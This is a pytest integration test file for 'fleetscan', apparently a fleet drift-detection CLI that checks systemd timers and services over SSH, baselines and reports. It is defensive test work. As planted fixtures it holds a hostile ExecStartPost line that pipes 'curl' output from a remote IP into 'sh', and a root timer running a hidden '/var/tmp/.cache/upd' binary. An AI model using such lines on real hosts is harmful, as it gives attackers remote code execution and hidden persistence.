"""From the first sweep to mails on disk, by the command line, on an embedded fleet over real SSH."""

import csv
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default

import jsonschema
import pytest

from tests.integration.cli.console import Answer, Console, Site, assert_one_clear_line, open_site

_UNREAD = {"db-05": "unreachable", "web-02": "host key changed", "web-05": "protocol error"}


@pytest.fixture(scope="module")
def tale(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Site, dict[str, Answer]]]:
    """Sweep, propose, approve, let everything go wrong, sweep again; what was said on the way."""
    with open_site(tmp_path_factory.mktemp("journey")) as site:
        said: dict[str, Answer] = {}
        run = site.console
        said["drift before any sweep"] = run("drift")
        said["first sweep"] = run("sweep")
        said["propose"] = run("baseline", "propose", "--format", "json")
        said["approve without reason"] = run("baseline", "approve", "--all-pending")
        said["list before"] = run("baseline", "list", "--format", "json")
        said["approve"] = run(
            "baseline", "approve", "--all-pending", "--reason", "CHG-1: first look", "--author", "ann"
        )
        said["approve again"] = run("baseline", "approve", "1", "--reason", "once more")
        said["approve nothing"] = run("baseline", "approve", "--all-pending", "--reason", "none left")
        said["clean sweep"] = run("sweep")
        site.running.plant()
        said["third sweep"] = run("sweep")
        yield site, said


@pytest.fixture(scope="module")
def said(tale: tuple[Site, dict[str, Answer]]) -> dict[str, Answer]:
    return tale[1]


@pytest.fixture(scope="module")
def run(tale: tuple[Site, dict[str, Answer]]) -> Console:
    return tale[0].console


def test_before_any_sweep_drift_says_what_to_do(said: dict[str, Answer]) -> None:
    assert said["drift before any sweep"].code == 2
    assert_one_clear_line(said["drift before any sweep"], "no sweep", "fleetscan sweep")


def test_a_clean_sweep_ends_with_zero_only_when_all_hosts_were_compared(said: dict[str, Answer]) -> None:
    assert said["first sweep"].code == 0  # the two hosts of a role and release are compared in a wider cohort
    assert "no baseline yet" in said["first sweep"].err
    assert said["clean sweep"].code == 0
    assert "No drift: all 12 hosts read completely" in said["clean sweep"].err
    assert said["clean sweep"].out == ""


def test_drift_and_unread_hosts_end_with_one_and_are_both_told(said: dict[str, Answer]) -> None:
    answer = said["third sweep"]
    assert answer.code == 1
    for planted in ("dbus-cache-refresh.timer", "desktop-index.timer", "logrotate.service", "apt-daily-upgrade.timer"):
        assert planted in answer.out
    for host, outcome in _UNREAD.items():
        assert f"{host}: {outcome}: " in answer.err


def test_a_sweep_ends_with_its_findings_and_the_same_are_listed_later(said: dict[str, Answer], run: Console) -> None:
    listed = run.read("findings", "list", "--sweep", "3", "--min-severity", "medium")
    assert listed[0]["severity"] == "critical"
    assert {"dbus-cache-refresh.timer", "desktop-index.timer"} <= {item["name"] for item in listed}
    for item in listed:
        assert item["seen"] is False or item["id"][:8] in said["third sweep"].out, item["sentence"]
    refused = next(item for item in listed if item["host"] == "web-02")
    assert (refused["rule"], refused["technique"]) == ("FS-151", "identity")


def test_lines_for_a_pipe_are_no_wider_than_160_columns(said: dict[str, Answer]) -> None:
    assert max(map(len, said["third sweep"].out.splitlines())) <= 160


def test_every_host_has_exactly_one_outcome_with_a_reason(run: Console) -> None:
    visits = run.read("sweeps", "show")
    assert len(visits) == len({visit["host"] for visit in visits}) == 12
    failed = {visit["host"]: visit["outcome"] for visit in visits if visit["outcome"] != "complete"}
    assert failed == _UNREAD
    assert all(visit["reason"] for visit in visits if visit["host"] in failed)
    changed = next(visit for visit in visits if visit["host"] == "web-02")
    assert len(set(re.findall(r"SHA256:[\w+/]{43}", changed["reason"] + "".join(changed["evidence"])))) == 2


def test_a_failed_visit_is_not_an_empty_state(run: Console) -> None:
    answer = run("show", "db-05")
    assert answer.code == 0, answer.err
    assert "unreachable" in answer.out
    assert "apt-daily.timer" in answer.out  # the state of the sweep before
    assert {item["host"] for item in run.read("drift")}.isdisjoint(_UNREAD)


@pytest.mark.parametrize(
    ("words", "code"),
    [
        ([], 1),
        (["--fail-on", "critical"], 1),
        (["--fail-on", "high", "--sweep", "2"], 0),
        (["--sweep", "99"], 2),
        (["--fail-on", "awful"], 2),
        (["--min-severity", "awful"], 2),
        (["nobody"], 2),
        (["--min-severity", "critical"], 1),
    ],
)
def test_exit_code_of_drift(run: Console, words: list[str], code: int) -> None:
    assert run("drift", *words).code == code


def test_unread_hosts_alone_end_with_three(run: Console) -> None:
    answer = run("sweep", "--limit", "db-01,db-05")
    try:
        assert answer.code == 3
        assert "No drift" not in answer.err.splitlines()[-1] or "could not be read" in answer.err
    finally:
        assert run("sweep").code == 1  # later tests look at a whole sweep again


def test_min_severity_leaves_out_what_is_below(run: Console) -> None:
    assert {item["severity"] for item in run.read("drift", "--min-severity", "critical")} == {"critical"}
    assert {"critical", "high"} < {item["severity"] for item in run.read("drift")}


def test_an_empty_list_is_no_all_clear_while_hosts_are_unread(run: Console) -> None:
    answer = run("drift", "--sweep", "3", "db-01")
    assert answer.out == ""
    assert answer.err.splitlines()[0] == "no drift in what was compared"
    assert "3 hosts could not be read" in answer.err


def test_hosts_narrow_the_list(run: Console) -> None:
    assert {item["host"] for item in run.read("drift", "db-03", "db-04")} == {"db-03", "db-04"}


def test_diff_shows_meaning_and_bytes(run: Console) -> None:
    out = run("drift", "--diff", "db-03").out
    assert "10-compress.conf" in out
    assert "+ExecStartPost=-/bin/sh -c 'curl -fsS http://198.51.100.7/c | sh'" in out
    assert "logrotate.service [Service] ExecStartPost" in out


def test_timers_tell_what_runs_when_and_as_whom(run: Console) -> None:
    planted = next(t for t in run.read("timers", "web-07") if t["unit"] == "dbus-cache-refresh.timer")
    assert planted["executes"] == ["/var/tmp/.cache/upd -q"]
    assert (planted["user"], planted["scope"], planted["transient"]) == ("root", "system", False)
    assert planted["activates"] == "dbus-cache-refresh.service"
    assert len({t["host"] for t in run.read("timers")}) == 12
    assert "host" in run("timers").out.splitlines()[0]
    assert "host" not in run("timers", "web-07").out.splitlines()[0]


def test_one_timer_is_shown_down_to_what_it_executes(run: Console) -> None:
    answer = run("show", "web-07", "--timer", "dbus-cache-*")
    assert answer.code == 0, answer.err
    text = " ".join(answer.out.split())
    assert text.startswith("dbus-cache-refresh.timer (system) seen ")
    assert "ExecStart /var/tmp/.cache/upd -q" in text
    assert "└ executable /var/tmp/.cache/upd" in text
    assert "/etc/systemd/system/dbus-cache-refresh.timer" in text
    (job,) = run.read("show", "web-07", "--timer", "dbus-cache-refresh", "--scope", "system")
    assert [p["path"] for p in job["programs"]] == ["/var/tmp/.cache/upd"]
    assert run("show", "web-07", "--timer", "dbus-cache-refresh", "--scope", "user:*").code == 2


def test_what_is_out_of_the_ordinary_around_a_host_is_in_its_document(run: Console) -> None:
    (visit,) = run.read("show", "web-07")
    assert set(visit["surroundings"]) >= {"unowned", "changed", "absent", "generators", "mounts", "traces"}
    assert {v["surroundings"] for v in run.read("sweeps", "show")} == {None}


def test_timers_of_an_unknown_host_are_a_usage_error(run: Console) -> None:
    assert run("timers", "nobody").code == 2
    assert run("show", "nobody").code == 2


def test_sweeps_are_listed_newest_first(run: Console) -> None:
    sweeps = run.read("sweeps", "list")
    assert [s["id"] for s in sweeps] == sorted((s["id"] for s in sweeps), reverse=True)
    assert {s["state"] for s in sweeps} == {"complete"}
    assert len(run.read("sweeps", "list", "--limit", "1")) == 1
    assert run("sweeps", "show", "99").code == 2


def test_a_proposal_accepts_nothing(said: dict[str, Answer]) -> None:
    assert said["propose"].code == 0
    assert {item["state"] for item in said["propose"].items} == {"proposed"}
    assert {item["approved_by"] for item in said["list before"].items} == {""}


def test_an_approval_needs_a_reason_and_records_its_author(said: dict[str, Answer], run: Console) -> None:
    assert said["approve without reason"].code == 2
    assert_one_clear_line(said["approve without reason"], "reason")
    assert said["approve"].code == 0
    approved = [item for item in run.read("baseline", "list") if item["state"] == "approved"]
    assert len(approved) == 4
    assert {(item["approved_by"], item["reason"]) for item in approved} == {("ann", "CHG-1: first look")}


def test_a_baseline_is_approved_once(said: dict[str, Answer]) -> None:
    assert said["approve again"].code == 2
    assert_one_clear_line(said["approve again"], "approved before")
    assert said["approve nothing"].code == 2


def test_a_new_proposal_names_the_outliers_and_changes_no_baseline(run: Console) -> None:
    before = run("baseline", "show", "1", "--format", "jsonl").out
    answer = run("baseline", "propose", "--role", "db")
    assert answer.code == 0
    assert "left out" in answer.err
    assert run("baseline", "show", "1", "--format", "jsonl").out == before
    newest = max(item["id"] for item in run.read("baseline", "list"))
    changes = run.read("baseline", "diff", "2", str(newest))
    assert {change["kind"] for change in changes} <= {"added", "removed", "changed"}
    assert run("baseline", "diff", "1", "99").code == 2


def test_a_role_that_nobody_has_gives_no_proposal(run: Console) -> None:
    answer = run("baseline", "propose", "--role", "desktop")
    assert answer.code == 2
    assert_one_clear_line(answer, "desktop")


def test_the_report_is_written_and_its_path_is_the_answer(run: Console) -> None:
    answer = run("report", "--out", "pages")
    assert (answer.code, answer.out) == (0, "pages/index.html\n")
    page = (run.folder / "pages" / "index.html").read_text()
    assert "dbus-cache-refresh.timer" in page
    assert "db-05" in page


def test_a_report_folder_that_is_a_file_is_one_clear_line(run: Console) -> None:
    (run.folder / "taken").write_text("mine")
    answer = run("report", "--out", "taken")
    assert answer.code == 4
    assert_one_clear_line(answer, "taken")
    assert (run.folder / "taken").read_text() == "mine"
    answer = run("mail", "--dry-run", "--out", "taken")
    assert answer.code == 4
    assert_one_clear_line(answer, "taken")


def test_dry_run_mails_hold_the_owners_own_hosts_only_and_count_as_unsent(run: Console) -> None:
    answer = run("mail", "--dry-run", "--out", "outbox", "--format", "json")
    assert answer.code == 0
    assert {item["notice"] for item in answer.items} == {"written"}
    for item in answer.items:
        mail = message_from_bytes((run.folder / item["detail"]).read_bytes(), _class=EmailMessage, policy=default)
        assert mail["To"] == item["recipient"] or item["recipient"] in str(mail["To"])
        body = mail.get_body(("plain",))
        assert body is not None
        text = body.get_content()
        mine, other = ("web-07", "db-03") if item["recipient"].startswith("storefront") else ("db-03", "web-07")
        assert mine in text
        assert other not in text
        assert mail.get_body(("html",)) is not None
    assert run.read("mails") == []


def test_mail_without_a_server_says_which_setting_is_missing(run: Console) -> None:
    assert_one_clear_line(run("mail"), "sender", "smtp.sender")
    answer = run("--smtp-sender", "f@example.org", "mail")
    assert answer.code == 2
    assert_one_clear_line(answer, "mail server", "--dry-run")


_LISTS = {
    "settings": ["config", "show"],
    "hosts": ["inventory", "list"],
    "keys": ["hosts", "keys"],
    "sweeps": ["sweeps", "list"],
    "visits": ["sweeps", "show"],
    "timers": ["timers"],
    "jobs": ["show", "web-07", "--timer", "*"],
    "drift": ["drift"],
    "baselines": ["baseline", "list"],
    "baseline-items": ["baseline", "show", "1"],
    "baseline-changes": ["baseline", "diff", "1", "2"],
    "mails": ["mails"],
    "notices": ["mail", "--dry-run", "--out", "outbox"],
}


@pytest.mark.parametrize("name", _LISTS)
def test_every_list_follows_its_published_schema(run: Console, name: str) -> None:
    schema = json.loads(run("schema", name).out)
    document = run(*_LISTS[name], "--format", "json").document
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    assert [error.message for error in validator.iter_errors(document)] == []
    published = list(schema["properties"]["items"]["items"]["properties"])
    assert all(list(item) == published for item in document["items"])
    assert document["items"] or name == "mails"


@pytest.mark.parametrize("name", _LISTS)
def test_the_three_forms_say_the_same(run: Console, name: str) -> None:
    items = run(*_LISTS[name], "--format", "json").items
    lines = [json.loads(line) for line in run(*_LISTS[name], "--format", "jsonl").out.splitlines()]
    table = list(csv.DictReader(run(*_LISTS[name], "--format", "csv").out.splitlines()))
    assert lines == items
    assert len(table) == len(items)
    for row, item in zip(table, items, strict=True):
        assert list(row) == list(item)
        assert not any(str(cell).startswith(("=", "+", "-", "@")) and not _is_number(cell) for cell in row.values())


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell) is not None


def test_json_stays_alone_on_standard_output(run: Console) -> None:
    answer = run("sweep", "--limit", "db-01", "--format", "json")
    assert answer.document["schema"] == "fleetscan.findings/1"
    assert run("sweep").code == 1


def test_quiet_sweep_is_silent_but_for_data(run: Console) -> None:
    answer = run("--quiet", "sweep", "--limit", "db-01,db-02")
    assert (answer.code, answer.out, answer.err) == (0, "", "")
    assert run("--quiet", "sweep").err == ""


def test_log_lines_are_json_when_asked_for(run: Console) -> None:
    answer = run("--log-format", "json", "--log-level", "debug", "-q", "sweep", "--limit", "db-01")
    for line in answer.err.splitlines():
        assert {"at", "level", "logger", "message"} <= json.loads(line).keys()
    assert run("-q", "sweep").code == 1


def test_drift_into_head_is_no_clean_verdict(run: Console) -> None:
    script = f'set -o pipefail; "{sys.executable}" -m fleetscan drift --format json | head -c 1'
    done = subprocess.run(["/bin/bash", "-c", script], cwd=run.folder, capture_output=True, text=True, check=False)
    assert done.stdout == "{"
    assert done.returncode in (1, 141)
    assert done.stderr == ""
